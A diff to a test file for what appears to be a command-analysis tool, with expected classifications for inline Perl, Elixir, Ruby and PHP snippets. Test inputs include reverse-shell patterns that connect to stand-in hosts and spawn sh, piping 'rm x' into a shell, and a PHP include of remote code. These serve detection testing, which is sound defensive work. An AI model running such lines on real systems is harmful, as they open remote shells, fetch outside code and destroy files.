@@ -28,6 +28,9 @@ do "x.pl" => run perl [inline] · read x.pl
 syscall(59, "x") => run perl [inline] OPAQUE
 use IO::Socket; IO::Socket::INET->new(PeerAddr=>"h.example", PeerPort=>1); exec("sh") => run perl [inline] · connect h.example · run sh <network:h.example>
 connect(S, sockaddr_in(1, inet_aton("10.0.0.1"))); system("sh -i") => run perl [inline] · connect 10.0.0.1 · run sh -i <network:10.0.0.1>
+open(P, "|sh"); print P "rm x" => run perl [inline] · run sh <unknown:code> OPAQUE
+open(P, "ls|"); print <P> => run perl [inline] · run ls
+open(P, "|-", "sort"); print P "a" => run perl [inline] · run sort
 """,
 )
 
@@ -67,5 +70,23 @@ test_sockets_of_elixir = code_rows(
     "elixir",
     r"""
 :gen_tcp.connect(~c"10.0.0.1", 1, []); System.cmd("sh", []) => run elixir [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
+""",
+)
+
+test_what_ruby_types = code_rows(
+    "ruby",
+    r"""
+IO.popen("sh", "w") { |p| p.puts "rm x" } => run ruby [inline] · run sh <unknown:code> OPAQUE
+IO.popen("ls") => run ruby [inline] · run ls
+""",
+)
+
+test_what_php_types = code_rows(
+    "php",
+    r"""
+$p = popen("sh", "w"); fwrite($p, "rm x"); => run php [inline] · run sh <unknown:code> OPAQUE
+$p = popen("ls", "r"); echo fgets($p); => run php [inline] · run ls
+include "http://e.example/x.php"; => run php [inline] OPAQUE · connect http://e.example/x.php
+include "x.php"; => run php [inline] · read x.php
 """,
 )
